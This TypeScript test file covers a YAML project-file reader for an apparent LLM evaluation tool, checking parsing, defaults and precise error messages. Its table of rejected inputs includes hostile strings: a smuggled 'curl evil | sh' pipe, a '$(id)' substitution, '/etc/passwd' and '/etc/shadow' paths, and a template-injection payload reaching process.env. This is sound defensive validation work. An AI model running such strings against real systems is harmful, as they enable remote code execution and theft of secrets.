import { stringify } from 'yaml';
import { describe, expect, test } from 'vitest';
import { readProject } from './read-project.ts';
import { problemsOf } from '@assay/records';
import { projectFolder, refusal } from './testing/project-folder.ts';

/** The project file of the design, as it is printed there. */
const designed = `models:
  - key: my_customer_support_model
    provider: openai            # openai | anthropic | google | openai_compatible | http | command | module | replay
    model: gpt-4o-2024-11-20
    parameters: { temperature: 0, max_tokens: 512 }
tasks:
  - key: data_leakage
    dataset: data/leakage.yaml
    prompt: prompts/leakage.md                   # {{input.question}} placeholders
    scorer:                                      # or scorers: [ … ], and a specification may name one: scorer: strict
      metrics:
        - exact-match
        - contains: { name: refusal }            # name: the score's name; the rest are the metric's parameters
        - ordinal-distance: { scale: [low, medium, high, urgent] }
      aggregates: { refusal_rate: refusal.pass_rate }
publisher: { organization: Example Lab, relationship: first_party, id_base: https://example.org/evals }
evaluation:
  key: data_leakage_repeatability
  display_name: Data Leakage Repeatability
  task_specifications:
    - key: data_leakage_repeatability
      task_key: data_leakage
      model_key: my_customer_support_model
      num_samples: 200                           # with subsampling: head | random
      repeatability: { num_runs: 5 }
      trials: { num_trials: 1 }                  # repeats per sample inside one run, with a reducer
gates:
  - macro_f1: { min: 0.85 }
  - { metric: exact-match, cohort: policy, pass_rate: { min: 0.70 } }
  - regression: { against: main, metric: exact-match, max_drop: 0.02 }
  - coverage: { min: 0.99 }
  - stability: { metric: refusal_rate, max_std: 0.05 }
`;

const others = {
  'data/leakage.yaml': 'samples:\n  - {id: a, input: {question: x}}\n',
  'prompts/leakage.md': 'Q: {{input.question}}\n',
  'model.mjs': 'export default async () => 1;\n',
  'metric.mjs': 'export default () => 1;\n',
  'outputs.jsonl': '{"id":"a","output":"x"}\n',
};

const folder = (text: string, more: Record<string, string> = {}) =>
  projectFolder({ 'assay.yaml': text, ...others, ...more });

const read = (text: string, more: Record<string, string> = {}) =>
  readProject(folder(text, more), 'assay.yaml');

test('readProject reads the project file of the design as printed', async () => {
  const project = await read(designed);
  expect(project.models).toEqual([
    {
      key: 'my_customer_support_model',
      provider: 'openai',
      model: 'gpt-4o-2024-11-20',
      parameters: { temperature: 0, max_tokens: 512 },
      limits: {
        concurrency: 10,
        requests_per_minute: null,
        tokens_per_minute: null,
        timeout_ms: 120_000,
        max_retries: 4,
      },
      price: null,
    },
  ]);
  const [task] = project.tasks;
  expect(task).toMatchObject({
    key: 'data_leakage',
    problem_derived: true,
    datasets: [{ path: 'data/leakage.yaml', subtask: null }],
    prompt: 'Q: {{input.question}}',
    system: null,
  });
  expect(task!.problem['@id']).toBe('https://example.org/evals/tasks/data_leakage');
  expect(task!.scorers).toEqual([
    {
      key: 'default',
      metrics: [
        { score_name: 'exact-match', metric: { kind: 'catalogue', name: 'exact-match' }, params: {} },
        { score_name: 'refusal', metric: { kind: 'catalogue', name: 'contains' }, params: {} },
        {
          score_name: 'ordinal-distance',
          metric: { kind: 'catalogue', name: 'ordinal-distance' },
          params: { scale: ['low', 'medium', 'high', 'urgent'] },
        },
      ],
      aggregates: { refusal_rate: 'refusal.pass_rate' },
    },
  ]);
  expect(project.evaluations[0]!.task_specifications).toEqual([
    {
      kind: 'task',
      key: 'data_leakage_repeatability',
      task_key: 'data_leakage',
      model_key: 'my_customer_support_model',
      scorer: null,
      num_samples: 200,
      subsampling: 'head',
      num_runs: 5,
      num_trials: 1,
      reducer: 'mean',
      k: 1,
    },
  ]);
  expect(project.gates.map(({ line }) => line)).toEqual([28, 29, 30, 31, 32]);
  expect(project).toMatchObject({
    file: 'assay.yaml',
    seed: '0',
    publisher: { organization: 'Example Lab' },
  });
});

const bare = designed.slice(0, designed.indexOf('publisher:'));

test('readProject reads both specifications of the repeatability source as printed', async () => {
  const first = `${bare}
evaluation:
  key: data_leakage_repeatability
  display_name: Data Leakage Repeatability
  task_specifications:
    - key: data_leakage_repeatability
      task_key: data_leakage
      model_key: my_customer_support_model
      repeatability:
        num_runs: 5
`;
  expect((await read(first)).evaluations[0]!.task_specifications[0]).toMatchObject({
    kind: 'task',
    num_runs: 5,
  });
  const second = `evaluation:
  key: safety_controls_repeatability
  display_name: Safety Controls Repeatability
  task_specifications:
    - type: repeatability
      key: repeatability_of_safety_controls
      config:
        num_runs: 3
      inputs:
        # Assess repeatability for all task specifications in this evaluation.
        - evaluation_key: data_leakage_eval

        # Assess repeatability only for this selected task specification.
        - evaluation_key: prompt_injection_eval
          task_specification_key: prompt_injection_multi_turn
`;
  expect((await read(second)).evaluations[0]!.task_specifications).toEqual([
    {
      kind: 'repeatability',
      key: 'repeatability_of_safety_controls',
      num_runs: 3,
      num_samples: null,
      inputs: [
        { evaluation_key: 'data_leakage_eval', task_specification_key: null },
        { evaluation_key: 'prompt_injection_eval', task_specification_key: 'prompt_injection_multi_turn' },
      ],
    },
  ]);
});

test('readProject reads evaluations/*.yaml beside the file, in order, and tells their places', async () => {
  const one = (key: string, task = 'data_leakage') =>
    `evaluation:\n  key: ${key}\n  task_specifications:\n    - {key: s, task_key: ${task}, model_key: my_customer_support_model}\n`;
  const project = await read(designed, {
    'evaluations/b.yaml': one('b'),
    'evaluations/a.yml': one('a'),
    'evaluations/x.txt': '!',
  });
  expect(project.evaluations.map(({ key }) => key)).toEqual(['data_leakage_repeatability', 'a', 'b']);
  const wrong = await refusal(() => read(designed, { 'evaluations/b.yaml': one('b', 'data_leakge') }));
  expect(wrong.location).toMatchObject({ file: 'evaluations/b.yaml', line: 4 });
  expect(wrong.fix).toContain('data_leakage');
  const twice = await refusal(() =>
    read(designed, { 'evaluations/b.yaml': one('data_leakage_repeatability') }),
  );
  expect(twice.message).toContain('assay.yaml:18 and evaluations/b.yaml:2');
});

/** Every key that the file knows, once. */
const full = {
  schema_version: 'assay.project.v1',
  seed: 7,
  models: [
    {
      key: 'hosted',
      display_name: 'Hosted',
      provider: 'openai_compatible',
      model: 'm',
      base_url: 'http://127.0.0.1:1/v1',
      api_key_env: 'KEY',
      headers: { 'X-Team': 'a' },
      parameters: { temperature: 0, max_tokens: 5, top_p: 1, top_k: 3, seed: 1, other: { a: [1] } },
      limits: {
        concurrency: 2,
        requests_per_minute: 10,
        tokens_per_minute: null,
        timeout_ms: 1000,
        max_retries: 0,
      },
      price: { input: 1, output: 2.5 },
    },
    { key: 'web', provider: 'http', url: 'https://example.org/generate' },
    { key: 'process', provider: 'command', command: ['python3', 'model.py'] },
    { key: 'local', provider: 'module', module: './model.mjs' },
    { key: 'again', provider: 'replay', outputs: 'outputs.jsonl' },
    { key: 'earlier', provider: 'replay', outputs: 'run:abc' },
  ],
  tasks: [
    {
      key: 'one',
      display_name: 'One',
      description: 'A task.',
      dataset: { path: 'data/leakage.yaml', columns: { answer: 'expected' }, record_set: 'rows' },
      prompt: 'Answer {{input.question}}',
      system: 'Be short.',
      scorers: [
        { key: 'strict', metrics: ['exact-match'] },
        {
          key: 'loose',
          metrics: [
            { contains: { name: 'refusal' } },
            { 'ordinal-distance': { scale: ['a', 'b'] } },
            { module: './metric.mjs', name: 'mine', params: { a: 1 } },
            { command: ['python3', 'metric.py'], name: 'theirs' },
          ],
          aggregates: { refusal_rate: 'refusal.pass_rate' },
        },
      ],
    },
    {
      key: 'two',
      datasets: [{ path: 'data/leakage.yaml', subtask: 's1' }],
      scorer: { metrics: ['exact-match'] },
    },
  ],
  evaluation: {
    key: 'e',
    display_name: 'E',
    num_samples: 50,
    subsampling: 'head',
    cache_policy: 'no-cache',
    task_specifications: [
      {
        type: 'task',
        key: 's',
        display_name: 'S',
        task_key: 'one',
        model_key: 'hosted',
        scorer: 'strict',
        num_samples: 5,
        subsampling: 'random',
        repeatability: { num_runs: 2 },
        trials: { num_trials: 3, reducer: 'pass_at_k', k: 2 },
      },
    ],
  },
  evaluations: [
    {
      key: 'r',
      task_specifications: [
        {
          type: 'repeatability',
          key: 'rs',
          display_name: 'RS',
          config: { num_runs: 3 },
          num_samples: null,
          inputs: [{ evaluation_key: 'e', task_specification_key: 's' }, { evaluation_key: 'elsewhere' }],
        },
      ],
    },
  ],
  gates: [
    { coverage: { min: 0.9 } },
    { metric: 'refusal', pass_rate: { min: 0.5 } },
    { stability: { metric: 'macro_f1', max_std: 1 } },
  ],
  publisher: { organization: 'Lab', relationship: 'other', id_base: 'https://example.org' },
};

test('readProject knows every key', async () => {
  const project = await read(stringify(full));
  expect(project.seed).toBe('7');
  expect(project.models.map(({ key }) => key)).toEqual([
    'hosted',
    'web',
    'process',
    'local',
    'again',
    'earlier',
  ]);
  expect(project.tasks[0]!.scorers[1]!.metrics.map(({ metric }) => metric.kind)).toEqual([
    'catalogue',
    'catalogue',
    'module',
    'command',
  ]);
  expect(project.tasks[1]!.datasets).toEqual([{ path: 'data/leakage.yaml', subtask: 's1' }]);
});

test('readProject lets a specification come before what its evaluation says for all', async () => {
  const specification = { task_key: 'two', model_key: 'hosted' };
  const evaluation = {
    key: 'e',
    num_samples: 50,
    subsampling: 'random',
    cache_policy: 'no-cache',
    task_specifications: [
      { key: 's', ...specification },
      { key: 'b', ...specification, num_samples: 20, subsampling: 'head' },
      { key: 'c', ...specification, num_samples: null },
      { key: 'd', type: 'repeatability', config: { num_runs: 2 }, inputs: [{ evaluation_key: 'r' }] },
    ],
  };
  const project = await read(stringify({ ...full, evaluation, gates: [] }));
  expect(project.evaluations.map(({ cache }) => cache)).toEqual(['off', null]);
  expect(project.evaluations[0]!.task_specifications).toMatchObject([
    { num_samples: 50, subsampling: 'random' },
    { num_samples: 20, subsampling: 'head' },
    { num_samples: null, subsampling: 'random' },
    { num_samples: 50 },
  ]);
});

test('readProject calls a score as the file calls its metric, an alias too, and in the wording of a paper', async () => {
  const metrics = [
    'retrieval-hit-at-k',
    { includes: {} },
    'pass@k',
    { em: { name: 'Exact Match (R² of 1)' } },
  ];
  const task = { ...full.tasks[1], scorer: { metrics } };
  const project = await read(stringify({ ...full, tasks: [full.tasks[0], task] }));
  expect(project.tasks[1]!.scorers[0]!.metrics).toMatchObject([
    { score_name: 'retrieval-hit-at-k', metric: { name: 'hit-at-k' } },
    { score_name: 'includes', metric: { name: 'contains' } },
    { score_name: 'pass@k', metric: { name: 'pass-at-k' } },
    { score_name: 'Exact Match (R² of 1)', metric: { name: 'exact-match' } },
  ]);
});

test('readProject knows a score by every name of its metric, where only one can be meant', async () => {
  const metrics = [
    'retrieval-hit-at-k',
    { 'token-f1': { name: 'words' } },
    'rouge-l',
    { 'rouge-l': { name: 'again' } },
  ];
  const scorer = { metrics, aggregates: { found: 'hit-at-k.mean' } };
  const gates = [
    { metric: 'hit-at-k', pass_rate: { min: 0.5 } },
    { regression: { against: 'main', metric: 'token-f1', max_drop: 0.1 } },
    { stability: { metric: 'found', max_std: 0.5 } },
    { metric: 'rouge-l', mean: { min: 0.1 } },
  ];
  const task = { ...full.tasks[1], scorer };
  const project = await read(stringify({ ...full, tasks: [full.tasks[0], task], gates }));
  expect(project.tasks[1]!.scorers[0]!.aggregates).toEqual({ found: 'retrieval-hit-at-k.mean' });
  expect(project.gates.map(({ rule }) => rule)).toMatchObject([
    { metric: 'retrieval-hit-at-k' },
    { regression: { against: 'main', metric: 'words' } },
    { stability: { metric: 'found' } },
    { metric: 'rouge-l' },
  ]);
  const two = {
    ...task,
    scorer: { metrics: [{ 'hit-at-k': { name: 'a' } }, { 'hit-at-k': { name: 'b' } }] },
  };
  const unclear = stringify({ ...full, tasks: [full.tasks[0], two], gates: gates.slice(0, 1) });
  await expect(read(unclear)).rejects.toMatchObject({ code: 'E_SPEC_NAME' });
});

const absent = Symbol('absent');
const [spec, repeat] = ['evaluation.task_specifications.0', 'evaluations.0.task_specifications.0'];

const wrongs: readonly (readonly [path: string, given: unknown, code: string])[] = [
  ['evaluation.num_samples', 0, 'E_SPEC_VALUE'],
  ['evaluation.subsampling', 'tail', 'E_SPEC_VALUE'],
  ['evaluation.cache_policy', 'on', 'E_SPEC_VALUE'],
  ['schema_version', 'assay.project.v2', 'E_SPEC_VERSION'],
  ['version', 99, 'E_SPEC_VERSION'],
  ['seed', -1, 'E_SPEC_VALUE'],
  ['seed', 1.5, 'E_SPEC_TYPE'],
  ['seed', 'abc', 'E_SPEC_VALUE'],
  ['seed', 2 ** 53 + 2, 'E_SPEC_TYPE'],
  ['models', {}, 'E_SPEC_TYPE'],
  ['models.0', 'gpt', 'E_SPEC_TYPE'],
  ['models.0.key', 'Über', 'E_SPEC_VALUE'],
  ['models.0.key', 12, 'E_SPEC_TYPE'],
  ['models.0.key', absent, 'E_SPEC_MISSING'],
  ['models.1.key', 'hosted', 'E_SPEC_DUPKEY'],
  ['models.0.display_name', 'a\u202eb', 'E_SPEC_VALUE'],
  ['models.0.provider', 'opnai', 'E_SPEC_VALUE'],
  ['models.0.provider', absent, 'E_SPEC_MISSING'],
  ['models.0.model', absent, 'E_SPEC_MISSING'],
  ['models.0.model', 4, 'E_SPEC_TYPE'],
  ['models.0.base_url', absent, 'E_SPEC_MISSING'],
  ['models.0.base_url', 'file:///etc/passwd', 'E_SPEC_VALUE'],
  ['models.0.base_url', 'https://user:secret@example.org', 'E_SPEC_VALUE'],
  ['models.0.api_key_env', 'sk-123', 'E_SPEC_VALUE'],
  ['models.0.api_key', 'sk-123', 'E_SPEC_UNKNOWN'],
  ['models.0.headers', { Authorization: 'Bearer x' }, 'E_SPEC_VALUE'],
  ['models.0.headers', { 'X-Team': 3 }, 'E_SPEC_TYPE'],
  ['models.0.headers', { 'bad name': 'x' }, 'E_SPEC_KEY'],
  ['models.0.parameters', [], 'E_SPEC_TYPE'],
  ['models.0.parameters.temperature', -1, 'E_SPEC_VALUE'],
  ['models.0.parameters.temperature', '0', 'E_SPEC_TYPE'],
  ['models.0.parameters.temperature', Number.NaN, 'E_SPEC_NUMBER'],
  ['models.0.parameters.max_tokens', 0, 'E_SPEC_VALUE'],
  ['models.0.parameters.max_tokens', 1.5, 'E_SPEC_TYPE'],
  ['models.0.parameters.top_p', 1.1, 'E_SPEC_VALUE'],
  ['models.0.parameters.top_k', 0, 'E_SPEC_VALUE'],
  ['models.0.parameters.seed', -1, 'E_SPEC_VALUE'],
  ['models.0.limits.concurrency', 0, 'E_SPEC_VALUE'],
  ['models.0.limits.requests_per_minute', 0, 'E_SPEC_VALUE'],
  ['models.0.limits.tokens_per_minute', 'many', 'E_SPEC_TYPE'],
  ['models.0.limits.timeout_ms', -5, 'E_SPEC_VALUE'],
  ['models.0.limits.max_retries', -1, 'E_SPEC_VALUE'],
  ['models.0.limits.retries', 3, 'E_SPEC_UNKNOWN'],
  ['models.0.price', 3, 'E_SPEC_TYPE'],
  ['models.0.price.input', -1, 'E_SPEC_VALUE'],
  ['models.0.price.output', absent, 'E_SPEC_MISSING'],
  ['models.0.module', './model.mjs', 'E_SPEC_UNKNOWN'],
  ['models.1.url', absent, 'E_SPEC_MISSING'],
  ['models.1.url', 'not an address', 'E_SPEC_VALUE'],
  ['models.2.command', 'python3 model.py; curl evil | sh', 'E_SPEC_CMD'],
  ['models.2.command', [], 'E_SPEC_VALUE'],
  ['models.2.command', ['python3', 3], 'E_SPEC_TYPE'],
  ['models.2.command', absent, 'E_SPEC_MISSING'],
  ['models.3.module', '../model.mjs', 'E_SPEC_PATH'],
  ['models.3.module', '/model.mjs', 'E_SPEC_PATH'],
  ['models.3.module', 'a\0b', 'E_SPEC_PATH'],
  ['models.3.module', 'gone.mjs', 'E_PATH'],
  ['models.3.module', absent, 'E_SPEC_MISSING'],
  ['models.4.outputs', '../outputs.jsonl', 'E_SPEC_PATH'],
  ['models.4.outputs', absent, 'E_SPEC_MISSING'],
  ['tasks', 'x', 'E_SPEC_TYPE'],
  ['tasks.0.key', 'a b', 'E_SPEC_VALUE'],
  ['tasks.1.key', 'one', 'E_SPEC_DUPKEY'],
  ['tasks.0.display_name', '', 'E_SPEC_VALUE'],
  ['tasks.0.description', 3, 'E_SPEC_TYPE'],
  ['tasks.0.problem', 'gone.jsonld', 'E_PATH'],
  ['tasks.0.problem', 'model.mjs', 'E_SPEC_JSON'],
  ['tasks.0.dataset', absent, 'E_SPEC_MISSING'],
  ['tasks.0.dataset', 5, 'E_SPEC_TYPE'],
  ['tasks.0.dataset', '../../etc/shadow', 'E_SPEC_PATH'],
  ['tasks.0.dataset', 'C:\\data', 'E_SPEC_PATH'],
  ['tasks.0.dataset', 'data/gone.yaml', 'E_PATH'],
  ['tasks.0.dataset.path', absent, 'E_SPEC_MISSING'],
  ['tasks.0.dataset.columns', [], 'E_SPEC_TYPE'],
  ['tasks.0.dataset.columns.answer', 3, 'E_SPEC_TYPE'],
  ['tasks.0.dataset.record_set', 3, 'E_SPEC_TYPE'],
  ['tasks.0.datasets', [{ path: 'data/leakage.yaml', subtask: 'x' }], 'E_SPEC_MISSING'],
  ['tasks.1.datasets', [], 'E_SPEC_VALUE'],
  ['tasks.1.datasets.0.subtask', absent, 'E_SPEC_MISSING'],
  ['tasks.0.prompt', 'prompts/gone.md', 'E_PATH'],
  ['tasks.0.prompt', '../x.md', 'E_SPEC_PATH'],
  ['tasks.0.prompt', 'no placeholder', 'E_PROMPT_PLACEHOLDER'],
  ['tasks.0.prompt', '{{inputs.question}}', 'E_PROMPT_PLACEHOLDER'],
  ['tasks.0.prompt', "{{range.constructor('return process')().env}}", 'E_PROMPT_PLACEHOLDER'],
  ['tasks.0.prompt', '{{input.question', 'E_PROMPT_PLACEHOLDER'],
  ['tasks.0.system', 5, 'E_SPEC_TYPE'],
  ['tasks.0.system', '{{env.KEY}}', 'E_PROMPT_PLACEHOLDER'],
  ['tasks.0.scorers', absent, 'E_SPEC_MISSING'],
  ['tasks.0.scorer', { metrics: ['exact-match'] }, 'E_SPEC_MISSING'],
  ['tasks.0.scorers.1.key', 'strict', 'E_SPEC_DUPKEY'],
  ['tasks.0.scorers.0.key', absent, 'E_SPEC_MISSING'],
  ['tasks.0.scorers.0.metrics', [], 'E_SPEC_VALUE'],
  ['tasks.0.scorers.0.metrics', absent, 'E_SPEC_MISSING'],
  ['tasks.0.scorers.0.metrics.0', 'exact-mtch', 'E_METRIC_UNKNOWN'],
  ['tasks.0.scorers.0.metrics.0', 5, 'E_SPEC_TYPE'],
  ['tasks.0.scorers.0.metrics.0', { 'exact-match': {}, contains: {} }, 'E_SPEC_VALUE'],
  ['tasks.0.scorers.0.metrics.0', { 'exact-match': 5 }, 'E_SPEC_TYPE'],
  ['tasks.0.scorers.0.metrics.0', { 'exact-match': { unknown: 1 } }, 'E_METRIC_PARAMETER'],
  ['tasks.0.scorers.0.metrics.0', { 'exact-match': { name: 'accur\u0430cy' } }, 'E_SPEC_VALUE'],
  ['tasks.0.scorers.0.metrics.1', 'exact-match', 'E_SPEC_DUPKEY'],
  ['tasks.0.scorers.1.metrics.1.ordinal-distance.scale', 3, 'E_METRIC_PARAMETER'],
  ['tasks.0.scorers.1.metrics.2.module', '../metric.mjs', 'E_SPEC_PATH'],
  ['tasks.0.scorers.1.metrics.2.name', absent, 'E_SPEC_MISSING'],
  ['tasks.0.scorers.1.metrics.2.params', 3, 'E_SPEC_TYPE'],
  ['tasks.0.scorers.1.metrics.3.command', 'python metric.py $(id)', 'E_SPEC_CMD'],
  ['tasks.0.scorers.1.aggregates', { refusal_rate: 'refusl.pass_rate' }, 'E_SPEC_NAME'],
  ['tasks.0.scorers.1.aggregates', { refusal_rate: 'refusal.pass_rat' }, 'E_SPEC_NAME'],
  ['tasks.0.scorers.1.aggregates', { refusal_rate: 'refusal.value' }, 'E_SPEC_NAME'],
  ['tasks.0.scorers.1.aggregates', { refusal_rate: 'refusal' }, 'E_SPEC_VALUE'],
  ['tasks.0.scorers.1.aggregates', { 'Refusal rate': 'refusal.pass_rate' }, 'E_SPEC_KEY'],
  ['evaluation', [], 'E_SPEC_TYPE'],
  ['evalution', {}, 'E_SPEC_UNKNOWN'],
  ['evaluation.key', absent, 'E_SPEC_MISSING'],
  ['evaluation.key', 'r', 'E_SPEC_DUPKEY'],
  ['evaluation.display_name', 3, 'E_SPEC_TYPE'],
  ['evaluation.task_specifications', [], 'E_SPEC_VALUE'],
  ['evaluation.task_specifications', absent, 'E_SPEC_MISSING'],
  [`${spec}.type`, 'repeat', 'E_SPEC_VALUE'],
  [`${spec}.key`, absent, 'E_SPEC_MISSING'],
  [`${spec}.task_key`, 'on', 'E_SPEC_NAME'],
  [`${spec}.model_key`, 'hostd', 'E_SPEC_NAME'],
  [`${spec}.scorer`, 'strct', 'E_SPEC_NAME'],
  [`${spec}.scorer`, absent, 'E_SPEC_MISSING'],
  [`${spec}.num_samples`, 0, 'E_SPEC_VALUE'],
  [`${spec}.num_samples`, 'all', 'E_SPEC_TYPE'],
  [`${spec}.subsampling`, 'tail', 'E_SPEC_VALUE'],
  [`${spec}.repeatability`, 5, 'E_SPEC_TYPE'],
  [`${spec}.repeatability.num_runs`, 0, 'E_SPEC_VALUE'],
  [`${spec}.repeatability.num_runs`, true, 'E_SPEC_TYPE'],
  [`${spec}.trials.num_trials`, 0, 'E_SPEC_VALUE'],
  [`${spec}.trials.reducer`, 'max', 'E_SPEC_VALUE'],
  [`${spec}.trials.k`, 4, 'E_SPEC_VALUE'],
  [`${spec}.treshold`, 1, 'E_SPEC_UNKNOWN'],
  [`${repeat}.config`, absent, 'E_SPEC_MISSING'],
  [`${repeat}.config.num_runs`, 0, 'E_SPEC_VALUE'],
  [`${repeat}.inputs`, [], 'E_SPEC_VALUE'],
  [`${repeat}.inputs.0.evaluation_key`, absent, 'E_SPEC_MISSING'],
  [`${repeat}.inputs.0.evaluation_key`, 'r', 'E_SPEC_CYCLE'],
  [`${repeat}.inputs.0.task_specification_key`, 'sx', 'E_SPEC_NAME'],
  [`${repeat}.task_key`, 'one', 'E_SPEC_UNKNOWN'],
  ['gates', 'strict', 'E_SPEC_TYPE'],
  ['gates.0', 'score > 0.8 || process.exit(0)', 'E_SPEC_TYPE'],
  ['gates.0.coverage.min', 101, 'E_SPEC_VALUE'],
  ['gates.0.coverage.min', Number.NaN, 'E_SPEC_NUMBER'],
  ['gates.0.coverage.min', Number.POSITIVE_INFINITY, 'E_SPEC_NUMBER'],
  ['gates.0.coverage.min', '0.8', 'E_SPEC_TYPE'],
  ['gates.0', { coverge: { min: 1 } }, 'E_SPEC_UNKNOWN'],
  ['gates.1.metric', 'refusl', 'E_SPEC_NAME'],
  ['gates.1', { cost: { max_usd: -1 } }, 'E_SPEC_VALUE'],
  ['gates.1', { latency: { p95_ms: { min: 3 } } }, 'E_SPEC_UNKNOWN'],
  ['gates.1', { regression: { against: 'main', metric: 'refusl' } }, 'E_SPEC_NAME'],
  ['gates.1', { regression: { agianst: 'main', metric: 'refusal' } }, 'E_SPEC_UNKNOWN'],
  ['gates.1', { metric: 'refusal' }, 'E_SPEC_VALUE'],
  ['tasks.0.scorers.0.metrics.0', { 'exact-match': { name: ' padded' } }, 'E_SPEC_VALUE'],
  ['tasks.0.scorers.0.metrics.0', { 'exact-match': { name: 'macro_f1' } }, 'E_SPEC_VALUE'],
  ['tasks.0.scorers.0.metrics.0', { accuracy: { input: 'nobody' } }, 'E_METRIC_INPUT'],
  ['tasks.0.scorers.0.metrics.0', { accuracy: { name: 'own', input: 'own' } }, 'E_METRIC_INPUT'],
  ['publisher.organization', absent, 'E_SPEC_MISSING'],
  ['publisher.relationship', 'friend', 'E_SPEC_VALUE'],
  ['publisher.id_base', 'ftp://x', 'E_SPEC_VALUE'],
  ['publisher.extra', 1, 'E_SPEC_UNKNOWN'],
  ['hiddenLabels', 'x', 'E_SPEC_UNKNOWN'],
];

describe('readProject refuses, with file, line and column,', () => {
  test.each(wrongs)('%s: %j as %s', async (path, given, code) => {
    const error = await refusal(() => read(stringify(changed(path, given), { lineWidth: 0 })));
    expect(problemsOf(error).map((problem) => problem.code)).toContain(code);
    for (const problem of problemsOf(error)) {
      expect(problem.trouble).toBe('usage');
      expect(problem.location?.line).toBeGreaterThan(0);
      expect(problem.message).not.toContain('undefined');
    }
  });
});

test.each([
  ['models.0.api_key_env', 'sk-123'],
  ['models.0.base_url', 'https://user:sk-123@example.org'],
])('readProject does not repeat the key that somebody wrote into %s', async (path, given) => {
  const error = await refusal(() => read(stringify(changed(path, given), { lineWidth: 0 })));
  expect(error.message).not.toContain('sk-123');
  expect(error.fix).toContain('api_key_env');
});

/** The full project with one field changed. */
test.each([
  ['models.0.api_key', 'sk-123', /Keys go in the environment.* api_key_env/],
  ['models.0.apiKey', 'sk-123', /Keys go in the environment/],
  ['models.0.token', 'sk-123', /Keys go in the environment/],
  ['models.3.api_key', 'sk-123', /Keys go in the environment.* in env,/],
  ['models.0.model', '${MODEL}', /Write the value itself/],
  ['models.0.model', '$MODEL', /Write the value itself/],
  ['models.0.model', '{{ env.MODEL }}', /Write the value itself/],
  ['models.0.base_url', 'https://${HOST}/v1', /Write the value itself|not expanded/],
  ['models.0.provider', 'opnai', /Did you mean "openai"/],
  ['models.0.parameters.temperature', '0', /without quotes: 0/],
  ['models', { hosted: { provider: 'openai' } }, /Begin each entry with "- "/],
  ['gates.0', { metric: 'refusal', pass_rate: { min: '95%' } }, /as a share: 0\.95/],
  ['gates.0', { metric: 'refusal', pass_rate: { min: 95 } }, /from 0 to 1: 0\.95/],
  ['tasks.1.scorer.metrics.0', { 'llm-as-judge': { judge: 'hostd' } }, /Did you mean "hosted"/],
  [
    'tasks.1.scorer.metrics.0',
    { 'llm-as-judge': { judge: 'hosted', rubrik: 'x' } },
    /"rubrik"; expected instruction, rubric/,
  ],
  ['tasks.1.scorer.metrics.0', 'llm-as-judge', /Name a model of the project file/],
  ['tasks.1.scorer.metrics.0', { 'cosine-embedding': { embedding: 'hostd' } }, /Did you mean "hosted"/],
])('readProject says what to write for %s: %j, and where', async (path, given, fix) => {
  const error = await refusal(() => read(stringify(changed(path, given), { lineWidth: 0 })));
  const said = problemsOf(error).find((problem) => fix.test(`${problem.message} ${problem.fix}`));
  expect(
    said?.location,
    problemsOf(error)
      .map(({ message, fix: told }) => `${message} ${told}`)
      .join(),
  ).toMatchObject({
    file: 'assay.yaml',
    line: expect.any(Number) as number,
  });
});

function changed(path: string, given: unknown): object {
  const copy = structuredClone(full) as unknown as Record<string, unknown>;
  const parts = path.split('.');
  const last = parts.pop()!;
  const parent = parts.reduce((value, part) => value[part] as Record<string, unknown>, copy);
  if (given === absent) delete parent[last];
  else parent[last] = given;
  return copy;
}

test('readProject names the place, what was given, what was expected and the nearest name', async () => {
  const text = designed.replace('model: gpt', 'modle: gpt').replace('num_runs: 5', 'num_runs: many');
  const problems = problemsOf(await refusal(() => read(text)));
  expect(
    problems.map(({ location, message, fix }) => [location?.line, location?.column, message, fix]),
  ).toEqual([
    [2, 5, 'models[0].model is missing; expected a text', undefined],
    [4, 5, 'the key "modle" is not known in models[0]', 'Did you mean "model"?'],
    [
      25,
      34,
      'evaluation.task_specifications[0].repeatability.num_runs: given the text "many"; expected a number',
      undefined,
    ],
  ]);
});

test('readProject knows a gate by its rule, whatever is misspelt inside it', async () => {
  const wrong = changed('gates', [{ regression: { agianst: 'main', metric: 'refusal' } }]);
  const problems = problemsOf(await refusal(() => read(stringify(wrong, { lineWidth: 0 }))));
  expect(problems.map(({ message, fix }) => [message, fix])).toEqual([
    ['gates[0].regression.against is missing; expected a text', undefined],
    ['the key "agianst" is not known in gates[0].regression', 'Did you mean "against"?'],
  ]);
});

test.each([
  ['{ metric: exact-match, min: 0.5 }', 'Limits stand under the aggregate that they are for'],
  ['latency: { p95_ms: 1000 }', 'p95_ms: { max: 1000 }'],
])('readProject says where a part of the gate %s belongs', async (gate, fix) => {
  const text = `${bare}gates:\n  - ${gate}\n`;
  await expect(read(text)).rejects.toMatchObject({ fix: expect.stringContaining(fix) as string });
});

test('readProject takes the cohort of a regression beside it, as of every gate, and inside it as before', async () => {
  const gates = (...lines: readonly string[]): string =>
    `${bare}gates:\n${lines.map((line) => `  - ${line}\n`).join('')}`;
  const project = await read(
    gates(
      '{ regression: { against: main, metric: exact-match }, cohort: p, missing: ignore }',
      'regression: { against: main, metric: exact-match, cohort: p, missing: ignore }',
    ),
  );
  const rule = { regression: { against: 'main', metric: 'exact-match', cohort: 'p', missing: 'ignore' } };
  expect(project.gates.map((gate) => gate.rule)).toEqual([rule, rule]);
  const twice = gates('{ regression: { against: main, metric: exact-match, subtask: a }, cohort: p }');
  await expect(read(twice)).rejects.toMatchObject({ code: 'E_SPEC_VALUE' });
});

test('readProject quotes the source of a key that YAML took for a number', async () => {
  const { code, message, fix } = await refusal(() =>
    read(designed.replace('task_key: data_leakage', 'task_key: 123')),
  );
  expect(code).toBe('E_SPEC_TYPE');
  expect(message).toContain('given 123, which is the number 123 in YAML; expected a text');
  expect(fix).toBe('Quote it: "123".');
});

test('readProject reads UTF-8 with a byte order mark and refuses other encodings and large files', async () => {
  expect((await read(`\ufeff${designed}`)).tasks).toHaveLength(1);
  const bytes = (content: Uint8Array) => readProject(projectFolder({ 'assay.yaml': content }), 'assay.yaml');
  const invalid = await refusal(() => bytes(Uint8Array.of(0x61, 0x3a, 0x20, 0xff)));
  expect(invalid.code).toBe('E_ENCODING');
  expect(invalid.message).toContain('offset 3');
  expect((await refusal(() => bytes(Buffer.from('\ufeffa: 1', 'utf16le')))).code).toBe('E_ENCODING');
  expect((await refusal(() => bytes(new Uint8Array(1024 * 1024 + 1)))).code).toBe('E_SPEC_SIZE');
});

test('readProject places the errors of a prompt file in that file', async () => {
  const error = await refusal(() => read(designed, { 'prompts/leakage.md': 'Hello\n {{ image }}' }));
  expect(error.location).toEqual({ file: 'prompts/leakage.md', line: 2, column: 2 });
});

test('readProject refuses an empty file and one that is not there', async () => {
  expect(await refusal(() => read(''))).toMatchObject({ code: 'E_SPEC_TYPE' });
